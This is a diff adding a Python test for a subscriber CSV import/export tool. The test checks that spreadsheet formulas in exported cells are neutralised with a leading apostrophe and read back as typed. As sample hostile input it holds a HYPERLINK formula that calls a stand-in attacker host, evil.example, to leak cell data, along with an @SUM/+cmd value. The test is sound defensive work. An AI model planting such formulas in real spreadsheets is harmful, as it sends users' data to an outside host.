@@ -236,3 +236,29 @@ def test_a_csv_export_keeps_everything_a_topic_says(topic):
     topics = [Topic(name="Plain", keywords=["plain"]), Topic(**topic)]
     assert [Topic.model_validate(t) for t in parse_topics(topics_cell(topics))] == topics
     assert topics_cell(topics[:1]) == "Plain: plain"  # keywords alone: still the short form
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_and_reads_its_own_cells_back(tmp_path, samples):
+    """A name typed on the public sign-up page as =HYPERLINK(…) ran as a formula in the admin's
+    spreadsheet (CSV injection): it is written as text ('=…), and an import reads it back as typed."""
+    config = setup(tmp_path, samples, 25, YAML_PEOPLE)
+    sheet = tmp_path / "formula.csv"
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    with sheet.open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows([["email", "name", "topics"], ["mallory@example.org", name, "@SUM(1+1): +cmd"],
+                                   ["ann@example.org", "'Tis Ann", "KV cache"]])
+    assert "2 rows: 2 added" in digest_cli("subscribers", "import", str(sheet), config=config).stdout
+    exported = digest_cli("subscribers", "export", config=config).stdout
+    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert rows["mallory@example.org"]["name"] == "'" + name
+    assert rows["mallory@example.org"]["topics"] == "'@SUM(1+1): +cmd"
+    assert rows["ann@example.org"]["name"] == "'Tis Ann"  # an apostrophe before a letter is the name's own
+    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
+    (tmp_path / "elsewhere").mkdir()
+    elsewhere = setup(tmp_path / "elsewhere", samples, 25, YAML_PEOPLE)
+    again = tmp_path / "again.csv"
+    again.write_text(exported, encoding="utf-8")
+    assert digest_cli("subscribers", "import", str(again), config=elsewhere).returncode == 0
+    back = {row["email"]: row["settings"] for row in listed(elsewhere)}
+    assert back["mallory@example.org"]["name"] == name and back["ann@example.org"]["name"] == "'Tis Ann"
+    assert back["mallory@example.org"]["topics"] == [{"name": "@SUM(1+1)", "keywords": ["+cmd"]}]
